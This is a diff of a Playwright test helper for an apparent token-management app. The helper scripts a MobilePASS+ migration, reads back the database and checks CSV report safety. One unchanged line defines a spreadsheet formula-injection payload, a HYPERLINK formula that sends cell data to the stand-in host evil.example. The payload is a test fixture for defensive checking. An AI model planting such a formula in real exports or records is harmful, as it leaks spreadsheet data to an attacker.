@@ -1,5 +1,5 @@
 import type { Page } from '@playwright/test';
-import type { Token, User } from '../src/lib/domain/types';
+import { inPage, resetWorld, rowsWhere } from './hook';
 
 /** A user whose name a spreadsheet would run as a formula, were the CSV not made safe. */
 export const FORMULA_NAME = '=HYPERLINK("http://evil.example/?q="&A1,"Click me")';
@@ -11,107 +11,67 @@ export const FORMULA_NAME = '=HYPERLINK("http://evil.example/?q="&A1,"Click me")
  * to inventory (migration done). One user gets a formula-like last name and a name with a comma,
  * quotes and an accent.
  */
-/** openSandbox can return before the app has mounted: wait for the automation hook too. */
-export async function waitForSandbox(page: Page) {
-	await page.waitForFunction(
-		() => (window as unknown as { __sandbox?: { ready: boolean } }).__sandbox?.ready
-	);
-}
-
 export async function scriptedMigration(page: Page) {
-	await waitForSandbox(page);
-	return page.evaluate(async (formula) => {
-		const w = window as unknown as {
-			__sandbox: {
-				db: {
-					users: { update: (id: string, c: object) => Promise<number> };
-					tokens: {
-						where: (i: string) => { equals: (v: unknown) => { toArray: () => Promise<Token[]> } };
-					};
-				};
-				reset: (spec: object) => Promise<{ ok: boolean; reason?: string }>;
+	await resetWorld(page, { seed: 'x', users: 200 });
+	return inPage(
+		page,
+		async ({ db, commands }, formula) => {
+			const ok = (r: { ok: boolean; reason?: string }) => {
+				if (!r.ok) throw new Error(r.reason);
 			};
-			__commands: Record<string, (...a: unknown[]) => Promise<{ ok: boolean; reason?: string }>>;
-		};
-		const ok = (r: { ok: boolean; reason?: string }) => {
-			if (!r.ok) throw new Error(r.reason);
-		};
-		const { db } = w.__sandbox;
-		ok(await w.__sandbox.reset({ seed: 'x', users: 200 }));
-		await db.users.update('acme-u1', { lastName: formula });
-		await db.users.update('acme-u2', { firstName: 'Zoë, "Jr"' });
-		const inventoryBefore = (
-			await db.tokens.where('[serverId+state]').equals(['acme', 'Inventory']).toArray()
-		).length;
-		// Three users migrate to MobilePASS+ (provisioned, then enrolled on their phones with
-		// Allow); three more are provisioned and have not enrolled yet.
-		const migrating = ['acme-u121', 'acme-u122', 'acme-u123'];
-		const pending = ['acme-u124', 'acme-u125', 'acme-u126'];
-		// Software Token & Push OTP Settings: the mobiles and Windows 10 enroll in MobilePASS+.
-		for (const target of ['iOS', 'Android', 'Windows 10'])
-			ok(
-				await w.__commands.changeTargetSettingCommand(db, 'acme', target, {
-					allowed: true,
-					app: 'MobilePASS+',
-					push: true
-				})
-			);
-		ok(await w.__commands.provisionCommand(db, 'acme', [...migrating, ...pending]));
-		for (const id of migrating) {
-			const phoneId = `phone-${id}`;
-			ok(await w.__commands.installAppCommand(db, phoneId, 'mobilePassPlus'));
-			const [enrollment] = await (
-				db as unknown as {
-					enrollments: {
-						where: (i: string) => {
-							equals: (v: unknown) => { toArray: () => Promise<{ code: string }[]> };
-						};
-					};
-				}
-			).enrollments
-				.where('userId')
-				.equals(id)
-				.toArray();
-			ok(
-				await w.__commands.enrollCommand(db, {
-					phoneId,
-					app: 'MobilePASS+',
-					allowPush: true,
-					pin: '1357',
-					code: enrollment.code
-				})
-			);
-		}
-		for (const id of ['acme-u81', 'acme-u82', 'acme-u83']) {
-			const held = await db.tokens.where('userId').equals(id).toArray();
-			const mp8 = held.find((t) => t.app === 'MobilePASS 8')!;
-			ok(await w.__commands.operateTokenCommand(db, mp8.serial, 'revokeToInventory'));
-		}
-		return { inventoryBefore };
-	}, FORMULA_NAME);
+			await db.users.update('acme-u1', { lastName: formula });
+			await db.users.update('acme-u2', { firstName: 'Zoë, "Jr"' });
+			const inventoryBefore = await db.tokens
+				.where('[serverId+state]')
+				.equals(['acme', 'Inventory'])
+				.count();
+			// Three users migrate to MobilePASS+ (provisioned, then enrolled on their phones with
+			// Allow); three more are provisioned and have not enrolled yet.
+			const migrating = ['acme-u121', 'acme-u122', 'acme-u123'];
+			const pending = ['acme-u124', 'acme-u125', 'acme-u126'];
+			// Software Token & Push OTP Settings: the mobiles and Windows 10 enroll in MobilePASS+.
+			for (const target of ['iOS', 'Android', 'Windows 10'])
+				ok(
+					await commands.changeTargetSettingCommand(db, 'acme', target, {
+						allowed: true,
+						app: 'MobilePASS+',
+						push: true
+					})
+				);
+			ok(await commands.provisionCommand(db, 'acme', [...migrating, ...pending]));
+			for (const id of migrating) {
+				const phoneId = `phone-${id}`;
+				ok(await commands.installAppCommand(db, phoneId, 'mobilePassPlus'));
+				const [enrollment] = await db.enrollments.where('userId').equals(id).toArray();
+				ok(
+					await commands.enrollCommand(db, {
+						phoneId,
+						app: 'MobilePASS+',
+						allowPush: true,
+						pin: '1357',
+						code: enrollment.code
+					})
+				);
+			}
+			for (const id of ['acme-u81', 'acme-u82', 'acme-u83']) {
+				const held = await db.tokens.where('userId').equals(id).toArray();
+				const mp8 = held.find((t) => t.app === 'MobilePASS 8')!;
+				ok(await commands.operateTokenCommand(db, mp8.serial, 'revokeToInventory'));
+			}
+			return { inventoryBefore };
+		},
+		FORMULA_NAME
+	);
 }
 
 /** The world as the database holds it, read independently of the reports. */
 export async function readWorld(page: Page) {
-	return page.evaluate(async () => {
-		const db = (
-			window as unknown as {
-				__sandbox: { db: Record<string, { toArray: () => Promise<unknown[]> }> };
-			}
-		).__sandbox.db;
-		const [users, tokens, groups] = await Promise.all([
-			db.users.toArray(),
-			db.tokens.toArray(),
-			db.groups.toArray()
-		]);
-		return {
-			users: (users as User[]).filter((u) => u.serverId === 'acme'),
-			tokens: (tokens as Token[]).filter((t) => t.serverId === 'acme'),
-			groups: (groups as { id: string; serverId: string; name: string }[]).filter(
-				(g) => g.serverId === 'acme'
-			)
-		};
-	});
+	const [users, tokens, groups] = await Promise.all([
+		rowsWhere(page, 'users', 'serverId', 'acme'),
+		rowsWhere(page, 'tokens', 'serverId', 'acme'),
+		rowsWhere(page, 'groups', 'serverId', 'acme')
+	]);
+	return { users, tokens, groups };
 }
 
 /** RFC 4180 parsing, written here so the test does not trust the code it checks. */
